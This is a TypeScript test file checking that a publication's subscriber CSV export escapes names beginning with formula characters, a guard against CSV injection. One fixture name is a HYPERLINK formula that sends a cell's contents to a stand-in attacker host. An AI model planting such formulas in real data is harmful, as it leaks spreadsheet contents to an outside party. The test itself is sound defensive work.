// Export of a publication's subscribers as CSV: what a spreadsheet opening the
// file would do with each cell.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { testBackends } from '../helpers/store.ts';
import { audienceFixture, type AudienceFixture } from './audience-fixture.ts';
import { importSubscribers } from '../../src/audience/import.ts';
import { exportSubscribers, spreadsheetSafe } from '../../src/audience/export.ts';

const dir = mkdtempSync(join(tmpdir(), 'matinale-export-'));
process.on('exit', () => rmSync(dir, { recursive: true, force: true }));

async function exported(f: AudienceFixture): Promise<string[][]> {
  const out = new PassThrough();
  let text = '';
  out.on('data', (c: Buffer) => (text += c.toString()));
  await exportSubscribers(f.store, 'tech-matin', out);
  return parse(text, { relax_column_count: false }) as string[][];
}


test('spreadsheetSafe prefixes a quote to cells a spreadsheet would run as a formula, and only to those', () => {
  for (const cell of ['=1+1', '+33 6', '-2', '@SUM(A1)', '\tx', '\rx']) assert.equal(spreadsheetSafe(cell), `'${cell}`);
  for (const cell of ['Ann', 'ann@example.org', ' =1', "'=1", '', 'a=b']) assert.equal(spreadsheetSafe(cell), cell);
});

for (const backend of await testBackends()) {
  test(`${backend.name}: a name that is a formula comes out as text in the export (CSV injection)`, async () => {
    const f = await audienceFixture(backend);
    try {
      const csv = join(dir, `${backend.name}.csv`);
      const names = ['=HYPERLINK("http://evil.example/?"&A1)', '+cmd', '-2+3', '@SUM(1)', '\tTab', '\rReturn', 'Ann'];
      const rows = names.map((name, i) => `r${i}@example.org,"${name.replace(/"/g, '""')}"`);
      writeFileSync(csv, `email,name\n${rows.join('\n')}\n`);
      const summary = await importSubscribers(f.deps, { file: csv, publicationSlug: 'tech-matin' });
      assert.equal(summary.imported, names.length);
      // The import trims names; a leading tab or carriage return can still be held (an older import, another tool).
      for (const [email, name] of [['r4@example.org', '\tTab'], ['r5@example.org', '\rReturn']] as const) {
        await f.store.db.updateTable('subscribers').set({ name }).where('email', '=', email).execute();
      }

      const [header, ...cells] = await exported(f);
      assert.deepEqual(header!.slice(0, 2), ['email', 'name']);
      const byEmail = new Map(cells.map((r) => [r[0], r[1]]));
      assert.equal(byEmail.get('r0@example.org'), `'=HYPERLINK("http://evil.example/?"&A1)`);
      assert.equal(byEmail.get('r1@example.org'), `'+cmd`);
      assert.equal(byEmail.get('r2@example.org'), `'-2+3`);
      assert.equal(byEmail.get('r3@example.org'), `'@SUM(1)`);
      assert.equal(byEmail.get('r4@example.org'), `'\tTab`);
      assert.equal(byEmail.get('r5@example.org'), `'\rReturn`);
      assert.equal(byEmail.get('r6@example.org'), 'Ann');
      // No text cell of any column starts with a formula character.
      for (const row of cells) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
    } finally {
      await f.close();
    }
  });
}
